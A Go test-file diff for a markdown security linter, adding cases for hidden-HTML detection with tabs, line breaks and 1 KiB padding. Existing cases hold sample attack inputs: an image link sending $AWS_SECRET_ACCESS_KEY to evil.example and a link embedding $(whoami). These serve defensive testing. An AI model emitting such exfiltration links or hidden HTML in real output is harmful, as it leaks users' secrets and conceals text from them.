@@ -67,6 +67,13 @@ func TestSecurityMarkupRules(t *testing.T) {
 		{name: "exfiltration image", src: with("![x](https://evil.example/p.png?d=$AWS_SECRET_ACCESS_KEY)\n"), want: []string{"warning link-exfiltration 5:6"}, contains: "$AWS_SECRET_ACCESS_KEY"},
 		{name: "exfiltration link", src: with("[go](https://x.example/?q=$(whoami))\n"), want: []string{"warning link-exfiltration 5:6"}},
 		{name: "price in a url", src: with("[p](https://shop.example/item?price=$5)\n")},
+		// A tab or a line break ends a tag's name as a space does, and a tag
+		// padded past 1 KiB is still a tag.
+		{name: "tab before the style", src: with("<div\tstyle=\"display:none\">extra notes</div>\n"), want: []string{"info hidden-html 5:1"}, contains: "<div>extra notes"},
+		{name: "line break before the style", src: with("<div\nstyle=\"display:none\">extra notes</div>\n"), want: []string{"info hidden-html 5:1"}},
+		{name: "details with a line break", src: with("<details\nclass=\"x\"><summary>s</summary>more</details>\n"), want: []string{"info hidden-html 5:1"}},
+		{name: "a tag padded past 1 KiB", src: with("<div style=\"display:none\" title=\"" + strings.Repeat("x", 1100) + "\">extra notes</div>\n"), want: []string{"info hidden-html 5:1"}, contains: "extra notes"},
+		{name: "an inline tag padded past 1 KiB", src: with("a <span title=\"" + strings.Repeat("x", 1100) + "\" hidden>extra notes</span>\n"), want: []string{"info hidden-html 5:3"}},
 	})
 }
 
